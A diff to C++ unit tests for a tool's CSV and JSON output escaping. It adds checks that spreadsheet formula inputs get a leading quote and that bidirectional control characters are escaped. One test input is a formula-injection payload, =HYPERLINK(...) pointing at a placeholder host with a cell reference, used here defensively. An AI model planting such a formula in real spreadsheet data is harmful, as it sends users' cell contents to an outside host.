@@ -87,12 +87,26 @@ TEST(CliOutput, FieldsNeverCarryControlsOrBadBytes) {
     EXPECT_EQ(CsvField("a\rb"), "\"a\rb\"");
     EXPECT_EQ(JsonString("\x1b\t\"\\\xc2\x85\xc3"), "\"\\u001b\\t\\\"\\\\\\u0085\xEF\xBF\xBD\"");
     EXPECT_EQ(CutRecordName(std::string(1023, 'a') + "\xC3\xA9").size(), 1023u);
+    // Free text a spreadsheet would take for a formula gets a leading quote;
+    // layout controls are escaped in JSON, and read back as they were.
+    for (const auto& [text, csv] : std::vector<std::pair<std::string, std::string>>{
+             {"=1+2.pptx", "'=1+2.pptx"},
+             {"+x", "'+x"},
+             {"-x", "'-x"},
+             {"@x", "'@x"},
+             {"=HYPERLINK(\"http://x/?a=\"&A2,\"x\")", "\"'=HYPERLINK(\"\"http://x/?a=\"\"&A2,\"\"x\"\")\""},
+             {"a=1", "a=1"},
+             {"", ""}})
+        EXPECT_EQ(CsvTextField(text), csv) << text;
+    EXPECT_EQ(JsonString("a\u2028b\u2029\u202Ac\u202E\u2066\u2069\u2067"),
+              R"("a\u2028b\u2029\u202ac\u202e\u2066\u2069\u2067")");
 }
 
 // What JsonLine writes, ParseJsonLine reads back; any other line is refused
 // with what is wrong with it.
 TEST(CliOutput, ShardLinesAreRecordsOrRefusedWithTheirFault) {
-    const AddressRecord address{"a@b.cd", "/x/\"y\"\n\xF0\x9F\x98\x80", 7, TextPlace::Comment, "\x01name"};
+    const AddressRecord address{"a@b.cd", "/x/\"y\"\n\xF0\x9F\x98\x80\u202E", 7, TextPlace::Comment,
+                                "\x01name"};
     const ErrorRecord failure{"notes skipped: \x1b", FailureKind::OverLimit, "/x/\ty", "ppt/notes.xml"};
     std::string error;
     const auto back = ParseJsonLine(JsonLine(address), error);
@@ -146,9 +160,6 @@ TEST_F(CliFormatsTest, FilesFromTakesLinesOrNulSeparatedNames) {
     const auto r = run({"--files-from", nul, "-0"});
     EXPECT_EQ(r.status, kCliAllRead) << r.err;
     EXPECT_EQ(r.out, run({m_package, odd, m_binary}).out);
-    const auto missing = run({"--files-from", m_dir.str() + "/none"});
-    EXPECT_EQ(missing.status, kCliSomeUnreadable);
-    EXPECT_NE(missing.err.find("The list of files cannot be read."), std::string::npos);
 }
 
 TEST_F(CliFormatsTest, MergeOfShardsGivesTheBytesOfOneRun) {
